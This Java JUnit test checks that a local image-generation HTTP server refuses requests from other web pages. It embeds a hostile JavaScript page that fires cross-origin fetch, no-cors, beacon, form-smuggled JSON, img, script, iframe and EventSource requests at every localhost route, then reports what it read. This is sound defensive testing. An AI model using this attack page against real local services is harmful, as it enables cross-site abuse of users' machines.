package dev.easel.app.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.easel.domain.image.Fields;
import dev.easel.domain.ledger.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/// A real browser: what pages of others can do with the server through it.
final class BrowserTest {

  private static final String HONEST = "{\"prompt\":\"a lighthouse\"}";

  @TempDir private Path directory;
  private final ProviderDouble provider = new ProviderDouble();
  private TestServer server;

  @BeforeEach
  void start() {
    server = TestServer.start(directory, provider);
  }

  @AfterEach
  void stop() {
    server.close();
  }

  /// Everything that a page can send without asking its user.
  private static final String ATTACK =
      """
      <!doctype html><title>Kittens</title><body><script>
      const {targets, routes} = SETTINGS;
      const forms = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
      const body = '{"prompt":"a lighthouse"}';
      const taken = [];
      let tried = 0;
      function within(work) {
        return Promise.race([work, new Promise((_, late) => setTimeout(late, 10000))]);
      }
      async function attempt(what, work) {
        tried++;
        try {
          const got = await within(work());
          if (got) taken.push(what + ": " + got);
        } catch {}
      }
      async function words(answer) {
        return answer.type === "opaque" ? "" : answer.status + await answer.text();
      }
      function element(name, settings) {
        return new Promise((loaded, failed) => {
          const made = Object.assign(document.createElement(name), settings);
          made.onload = () => loaded(made);
          made.onerror = failed;
          document.body.append(made);
        });
      }
      function form(url, enctype) {
        const frame = Object.assign(document.createElement("iframe"), {name: "f" + tried});
        const form = Object.assign(document.createElement("form"),
          {action: url, method: "post", enctype, target: frame.name});
        form.append(Object.assign(document.createElement("input"),
          {name: '{"prompt":"a lighthouse","x":"', value: '"}'}));
        document.body.append(frame, form);
        form.submit();
        return new Promise(loaded => frame.onload = () => loaded(inside(frame)));
      }
      function inside(frame) {
        try { return frame.contentDocument.body.innerText; } catch { return ""; }
      }
      function events(url) {
        return new Promise((opened, failed) => {
          const source = new EventSource(url);
          source.onopen = source.onmessage = () => opened("open");
          source.onerror = () => { source.close(); failed(); };
        });
      }
      async function attack(target, {method, path}) {
        const url = target + path, what = method + " " + url;
        const json = {"Content-Type": "application/json"};
        const content = method === "GET" ? {} : {body};
        await Promise.all([
          attempt("fetch " + what, async () => words(await fetch(url, {method, ...content}))),
          attempt("json " + what, async () =>
            words(await fetch(url, {method, headers: json, ...content}))),
          attempt("token " + what, async () =>
            words(await fetch(url, {method, headers: {Authorization: "Bearer x"}, ...content}))),
          attempt("no-cors " + what, async () =>
            words(await fetch(url, {method: method === "GET" ? "GET" : "POST", mode: "no-cors", ...content}))),
          attempt("beacon " + what, async () => {
            navigator.sendBeacon(url, new Blob([body], {type: "text/plain"}));
            navigator.sendBeacon(url, new Blob([body], {type: "application/json"}));
          }),
          ...(method === "GET" ? [] : forms).map(type =>
            attempt("form " + type + " " + what, () => form(url, type))),
          attempt("img " + what, async () => (await element("img", {src: url})).width),
          attempt("script " + what, async () => (await element("script", {src: url})).src),
          attempt("style " + what, async () =>
            (await element("link", {rel: "stylesheet", href: url})).href),
          attempt("iframe " + what, async () => inside(await element("iframe", {src: url}))),
          attempt("events " + what, () => events(url))]);
      }
      (async () => {
        if (location.hostname !== "localhost") {
          await element("iframe", {src: location.href.replace(location.hostname, "localhost")});
        }
        await Promise.all(targets.flatMap(target => routes.map(route => attack(target, route))));
        await fetch("/report", {method: "POST", body: JSON.stringify({tried, taken})});
      })();
      </script>
      """;

  @Test
  void pagesOfOthersNeitherSpendNorReadNorWrite() throws Exception {
    String entry = TestServer.json(server.post("/generate", HONEST)).get("log_entry").toString();
    String before = server.get("/logs").body();
    try (Attacker attacker = new Attacker(settings(TestServer.MAPPER.readTree(entry)))) {
      Chromium.show(directory, attacker.page());
      assertEquals(2, attacker.reports.size(), "pages that came to their end");
      for (String report : attacker.reports) {
        JsonNode told = TestServer.MAPPER.readTree(report);
        assertTrue(told.get("tried").asInt() > 200, report);
        assertEquals("[]", told.get("taken").toString());
      }
    }
    assertEquals(1, provider.calls());
    assertEquals(before, server.get("/logs").body());
    long refused = server.printed().lines().filter(line -> line.contains("\"status\":403")).count();
    assertTrue(refused > 200, refused + " requests came through to be refused");
  }

  /// What the attacker knows: more than a stranger would.
  private String settings(JsonNode entry) {
    List<Fields> routes =
        server.routes().stream()
            .map(route ->
                Fields.NONE
                    .with("method", route.method())
                    .with(
                        "path",
                        route
                            .template()
                            .replace("{id}", entry.get("id").asString())
                            .replace("{sha256}", entry.at("/images/0/sha256").asString())))
            .toList();
    List<String> targets =
        List.of("http://127.0.0.1:" + server.port(), "http://localhost:" + server.port());
    return Json.write(Fields.NONE.with("targets", targets).with("routes", routes));
  }

  /// Somebody else's site on this machine, under both of its names.
  private static final class Attacker implements AutoCloseable {

    private final Queue<String> reports = new ConcurrentLinkedQueue<>();
    private final HttpServer http;
    private final byte[] page;

    Attacker(String settings) throws IOException {
      page = ATTACK.replace("SETTINGS", settings).getBytes(StandardCharsets.UTF_8);
      http = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
      http.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
      http.createContext("/", this::answer);
      http.start();
    }

    private void answer(HttpExchange exchange) throws IOException {
      try (exchange) {
        byte[] body = exchange.getRequestBody().readAllBytes();
        if (exchange.getRequestURI().getPath().equals("/report")) {
          reports.add(new String(body, StandardCharsets.UTF_8));
        }
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, page.length);
        exchange.getResponseBody().write(page);
      }
    }

    URI page() {
      return URI.create("http://127.0.0.1:" + http.getAddress().getPort() + "/");
    }

    @Override
    public void close() {
      http.stop(0);
    }
  }
}
